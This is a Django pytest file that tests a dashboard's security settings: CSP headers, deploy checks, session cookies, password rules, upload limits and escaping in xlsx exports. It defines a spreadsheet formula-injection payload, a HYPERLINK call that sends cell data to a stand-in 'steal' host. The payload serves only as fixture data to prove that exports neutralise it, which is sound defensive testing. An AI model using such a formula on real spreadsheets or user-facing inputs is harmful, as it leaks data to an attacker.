"""Security settings and their effect: headers, `check --deploy`, sessions, passwords, uploads,
spreadsheet exports. The URL × role table is in test_url_table.py, the browser in tests/browser/."""

import datetime as dt
import io
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from accounts.models import User
from targets.models import MonthlyCount, SubDistrict
from tasks.models import KeyTask
from tests.support import firm, inline_code

BASE_DIR = Path(settings.BASE_DIR)
HOSTILE = '=HYPERLINK("http://x.example/steal?d="&A1,"点击查看")'

CSP = {
    "default-src": "'self'",
    "script-src": "'self'",
    "style-src": "'self' 'unsafe-inline'",
    "img-src": "'self' data:",
    "font-src": "'self'",
    "connect-src": "'self'",
    "frame-ancestors": "'none'",
    "form-action": "'self'",
    "base-uri": "'self'",
    "object-src": "'none'",
}


def policy(response):
    """The Content-Security-Policy header as {directive: sources}."""
    parts = (part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";"))
    return {name: sources for name, sources in parts}


def test_every_answer_carries_the_policy_and_refuses_frames(db, client):
    for url in ["/accounts/login/", "/healthz"]:
        response = client.get(url)
        assert policy(response) == CSP, url
        assert response["X-Frame-Options"] == "DENY", url
        assert response["X-Content-Type-Options"] == "nosniff", url
        assert response["Referrer-Policy"] == "same-origin", url


def test_pages_for_a_logged_in_user_carry_the_policy(login, leader):
    response = login(leader).get("/")
    assert response.status_code == 200
    assert policy(response) == CSP


def test_no_template_has_inline_script_or_handler():
    for path in sorted((BASE_DIR / "templates").rglob("*.html")):
        assert inline_code(path.read_text(encoding="utf-8")) == [], path


def test_the_inline_code_finder_finds_what_the_policy_blocks():
    assert inline_code('<select onchange="this.form.submit()">')
    assert inline_code("<script>alert(1)</script>")
    assert inline_code('<a href="javascript:void(0)">')
    assert not inline_code('<script src="/static/js/charts.js"></script>')
    assert not inline_code('<script id="c-data" type="application/json">{"data": []}</script>')


def deploy_check(**extra):
    env = {
        key: value
        for key, value in os.environ.items()
        if key
        not in {"DEBUG", "HTTPS", "SECRET_KEY", "ALLOWED_HOSTS", "DJANGO_SETTINGS_MODULE", "DJANGO_ALLOW_ASYNC_UNSAFE"}
    }
    env.update(
        DEBUG="0",
        SECRET_KEY=secrets.token_urlsafe(64),
        ALLOWED_HOSTS="gkss.beibei.gov.cn",
        DATABASE_URL="sqlite:////tmp/beibei-deploy-check.sqlite3",
        **extra,
    )
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    return result.returncode, set(re.findall(r"\((\w+\.[EW]\d+)\)", result.stdout + result.stderr)), result


def test_check_deploy_without_https_warns_only_about_https():
    code, found, result = deploy_check()
    assert code == 1, result.stderr
    assert found == {"security.W004", "security.W008", "security.W012", "security.W016"}, result.stderr


def test_check_deploy_with_https_is_clean():
    code, found, result = deploy_check(HTTPS="1")
    assert (code, found) == (0, set()), result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_sessions_end_with_the_browser_and_after_a_working_day():
    assert settings.SESSION_EXPIRE_AT_BROWSER_CLOSE is True
    assert settings.SESSION_COOKIE_AGE == 8 * 60 * 60
    assert settings.SESSION_COOKIE_HTTPONLY is True


def test_the_session_cookie_is_a_browser_session_cookie(client, leader):
    response = client.post("/accounts/login/", {"username": "leader_user", "password": "a-long-test-password"})
    assert response.status_code == 302
    cookie = response.cookies[settings.SESSION_COOKIE_NAME]
    assert cookie["expires"] == "" and cookie["max-age"] == ""  # gone when the browser closes
    assert cookie["httponly"] is True and cookie["samesite"] == "Lax"
    assert client.session.get_expiry_age() == 8 * 60 * 60


@pytest.mark.parametrize(
    ("password", "message"),
    [
        ("short-1", "密码太短，至少需要 10 个字符"),
        ("1234567890123", "密码只包含数字"),
        ("password123", "这个密码太常见了"),
        ("weakling-someone", "密码跟 用户名 太相似"),
    ],
)
def test_create_account_refuses_a_weak_password_in_chinese(db, password, message):
    with pytest.raises(CommandError, match=message):
        call_command("create_account", "weakling-someone", "--role", "leader", "--password", password)
    assert not User.objects.filter(username="weakling-someone").exists()


def test_create_account_accepts_a_strong_password(db):
    call_command("create_account", "strong", "--role", "leader", "--password", "北碚-双倍增-2027")
    assert User.objects.get(username="strong").check_password("北碚-双倍增-2027")


def test_upload_limits_are_set():
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE == 5 * 1024 * 1024
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 10 * 1024 * 1024
    assert settings.FILE_UPLOAD_PERMISSIONS == 0o640


@pytest.fixture
def hostile_text(db):
    """User text that a spreadsheet would run as a formula, in every field an export shows."""
    tiansheng = SubDistrict.objects.get(slug="tiansheng")
    MonthlyCount.objects.create(
        subdistrict=tiansheng, month=dt.date(2025, 3, 1), metric="high_tech", value=5, note=HOSTILE
    )
    firm(1, name=HOSTILE)
    KeyTask.objects.filter(number=1).update(title=HOSTILE)


def cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize(
    "url",
    ["/subdistricts/tiansheng/?export=xlsx", "/enterprises/?export=xlsx", "/tasks/?export=xlsx", "/plan/?export=xlsx"],
)
def test_xlsx_exports_never_write_a_formula(login, bureau, hostile_text, url):
    response = login(bureau).get(url)
    assert response.status_code == 200
    found = cells(response.content)
    assert found
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    if url != "/plan/?export=xlsx":  # the plan shows no user text
        assert any(c.value == "'" + HOSTILE and c.data_type == "s" for c in found)


def test_table_export_passes_every_text_cell_through_safe_cell():
    import django_tables2 as tables

    from beibei_dashboard.tables import SafeTableExport

    class NoteTable(tables.Table):
        note = tables.Column("=备注")
        count = tables.Column("数量")

    export = SafeTableExport("xlsx", NoteTable([{"note": HOSTILE, "count": 3}, {"note": "@SUM(A1)", "count": -2}]))
    assert export.dataset.headers == ["'=备注", "数量"]
    assert list(export.dataset) == [("'" + HOSTILE, 3), ("'@SUM(A1)", -2)]  # numbers stay numbers
    assert [c.data_type for c in cells(export.export())] == ["s", "s", "s", "n", "s", "n"]
